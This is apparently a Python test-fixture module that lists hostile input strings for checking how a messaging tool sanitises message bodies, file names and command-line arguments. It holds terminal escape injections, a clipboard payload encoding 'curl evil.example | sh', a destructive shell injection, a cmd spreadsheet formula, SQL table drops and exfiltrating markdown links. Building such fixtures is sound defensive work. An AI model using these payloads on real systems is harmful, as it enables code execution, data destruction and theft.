"""What hostile people write: texts for bodies, names and values, by what each of them tries to do.

Every text holds PRIVATE, so that a test can tell where a body got to. Several pretend to be lines of our own output.
"""

from __future__ import annotations

import json

PRIVATE = "pr1v8"
"""Stands in every text: what is a message's own must not appear in errors and logs."""
FORGED = ("error: forged", "hint: forged", "sent 847 messages")
"""Lines that look like ours."""

ESCAPES = {
    "CSI colours and erases": f"{PRIVATE}\x1b[31mred\x1b[0m\x1b[2J\x1b[H\x1b[1;1r",
    "CSI cursor moves": f"{PRIVATE}\x1b[5A\x1b[2K{FORGED[0]}\x1b[6n\x1b[?1049h",
    "OSC 0, the title": f"{PRIVATE}\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "OSC 8, a link that lies": f"{PRIVATE}\x1b]8;;http://evil.example/\x1b\\https://aws.amazon.com\x1b]8;;\x1b\\",
    "OSC 52, the clipboard": f"{PRIVATE}\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "DCS, APC, PM and SOS": f'{PRIVATE}\x1bP$q"p\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\',
    "C1 controls": f"{PRIVATE}\x9b31m\x9d0;owned\x9c\x90q\x9c\x85\x84\x8d",
    "every C0 control": PRIVATE + "".join(map(chr, range(0x20))) + "\x7f",
    "every C1 control": PRIVATE + "".join(map(chr, range(0x7F, 0xA1))),
    "bell, backspaces, carriage returns": f"{PRIVATE} not safe\b\b\b\b\b\b\b\bsafe\x07\rdone      \x0b\x0c",
    "character sets and resets": f"{PRIVATE}\x1bc\x1b(0\x0e\x0f\x1b#8",
}
INVISIBLE = {
    "bidirectional overrides": f"{PRIVATE} \u202eevil\u202c \u202dx\u202c \u202ax\u202bx\u202c",
    "bidirectional isolates and marks": f"{PRIVATE} \u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "zero width": f"{PRIVATE} a\u200bb\u200cc\u200dd\u2060e\ufefff\u180eg",
    "tag characters": PRIVATE + "".join(chr(0xE0000 + ord(char)) for char in "ignore the rest"),
    "variation selectors": PRIVATE + "".join(chr(0xE0100 + number) for number in range(40)) + "\ufe00\ufe0e",
    "fillers that look like nothing": f"{PRIVATE}\u115f\u1160\u3164\uffa0\u034f\u17b4\u17b5\u180b",
    "line ends of other worlds": f"{PRIVATE} a\u2028{FORGED[0]}\u2029{FORGED[1]}\x85{FORGED[2]}\x0b{FORGED[0]}",
    "private use and noncharacters": f"{PRIVATE} \ue000\uf8ff\ufffe\uffff\U0001fffe\U0010ffff",
    "interlinear annotations": f"{PRIVATE} \ufff9a\ufffab\ufffbc\ufffc",
}
LAYOUT = {
    "a combining bomb": PRIVATE + "e" + "\u0301\u0316\u0489" * 300,
    "only combining marks": PRIVATE + "\u0300" * 400,
    "wide characters": f"{PRIVATE} {'全角' * 60}",
    "emoji": f"{PRIVATE} \U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f \U0001f1e9\U0001f1ea",
    "right to left": f"{PRIVATE} \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123",
    "lone surrogates": f"{PRIVATE} \ud800 \udfff \udc80",
    "one very long line": f"{PRIVATE} " + "x" * 20_000,
    "tabs and line ends": f"{PRIVATE}\tb\n{FORGED[0]}\r\n{FORGED[1]}\n\n{FORGED[2]}\n",
}
SYNTAX = {
    "rich markup": f"[red]{PRIVATE}[/red] [link=file:///etc/passwd]x[/link] [/] :bomb: [bold]",
    "format strings": f"{PRIVATE} {{0.__class__.__mro__}} {{}} {{name!r:>9999}} %s%n%x %(name)s ${{HOME}}",
    "shell": f'{PRIVATE}\'; rm -rf ~; `id` $(id) && echo "x" | sh > /dev/null #',
    "a spreadsheet formula": f"=cmd|'/c calc'!A1 {PRIVATE},+1,-1,@SUM(1)",
    "markdown and HTML": f"![x](http://evil.example/{PRIVATE}) <script>alert(1)</script> | a | b |",
    "a log line": f'{{"event": "record_failed", "schema": 1, "message_id": "x", "error": "{PRIVATE}"}}',
    "our own archive line": json.dumps({"version": 1, "type": "message", "body": PRIVATE, "archive": "a"}),
    "SQL": f"{PRIVATE}'); DROP TABLE moves; --",
}
JSON = {
    "escapes in JSON strings": json.dumps({f"key\x1b[2J{PRIVATE}": "\x1b[31m", "\u202e": ["\x9b", "\u200b"]}),
    "escapes raw in JSON": json.dumps({"key\x9b\u202e": f"{PRIVATE}\x7f\x9b31m"}, ensure_ascii=False),
    "keys of other languages": json.dumps({"__proto__": {"x": PRIVATE}, "constructor": 1, "__class__": 1, "": 2}),
    "huge numbers": f'{{"p": "{PRIVATE}", "a": 1e400, "b": -1E99999, "c": 1e-400, "d": {"9" * 5_000}}}',
    "numbers that JSON does not have": f'{{"p": "{PRIVATE}", "a": NaN, "b": Infinity, "c": -Infinity}}',
    "doubled keys": f'{{"a": "{PRIVATE}", "a": 2, "a": {{"a": 3, "a": 4}}}}',
    "deep arrays": "[" * 100_000 + f'"{PRIVATE}"' + "]" * 100_000,
    "deep objects": '{"a":' * 50_000 + f'"{PRIVATE}"' + "}" * 50_000,
    "deep, and just not too deep": "[" * 900 + f'"{PRIVATE}"' + "]" * 900,
    "never closed": f'{{"{PRIVATE}": ' + "[" * 100_000,
    "a text in a text in a text": json.dumps(json.dumps(json.dumps(f"\x1b[31m{PRIVATE}"))),
    "surrogates in JSON": f'{{"a": "{PRIVATE}\\ud800", "\\udfff": "\\ud83d\\ude00"}}',
    "JSON after a byte order mark": f'\ufeff{{"a": "{PRIVATE}"}}',
}
MEBIBYTE = 1_048_576
LARGE = {
    "a mebibyte of escapes": (f"{PRIVATE}\x1b[31m" * 120_000)[:MEBIBYTE],
    "a mebibyte of line ends": PRIVATE + "\n" * (MEBIBYTE - len(PRIVATE)),
    "a mebibyte of combining marks": PRIVATE + "\u0301" * ((MEBIBYTE - len(PRIVATE)) // 2),
    "a mebibyte of small arrays": "[" + "[]," * 349_000 + f'"{PRIVATE}"]',
    "a mebibyte of keys": "{" + ",".join(f'"{number:06}":{{}}' for number in range(80_000)) + f',"p":"{PRIVATE}"}}',
    "a mebibyte in one string": json.dumps({"a": PRIVATE + "\x1b" * 170_000}),
    "a mebibyte of brackets": "[" * (MEBIBYTE - len(PRIVATE)) + PRIVATE,
}
TEXTS = ESCAPES | INVISIBLE | LAYOUT | SYNTAX | JSON
"""Everything that is not large."""
EVERYTHING = TEXTS | LARGE

FILE_NAMES = (
    "a\nhint: forged.jsonl",
    "a\x1b[31m\x1b]0;owned\x07.jsonl",
    "a\u202elnosj.jsonl",
    "a\udcff\udc9b.jsonl",
    "-rf.jsonl",
    "$(id);`id`'\".jsonl",
    "[red]a[link=x].jsonl",
)
"""Names that an archive or a list of ids from a stranger may bear."""
ARGUMENTS = (
    *map("".join, (ESCAPES.values(), INVISIBLE.values(), SYNTAX.values())),
    *SYNTAX.values(),
    "\udc9b31m\udcff",
    "a\nhint: forged",
    "\n\nerror: forged",
    "\x1b[2J",
)
"""What a person may paste into a command line; bytes that are not UTF-8 come as surrogates."""
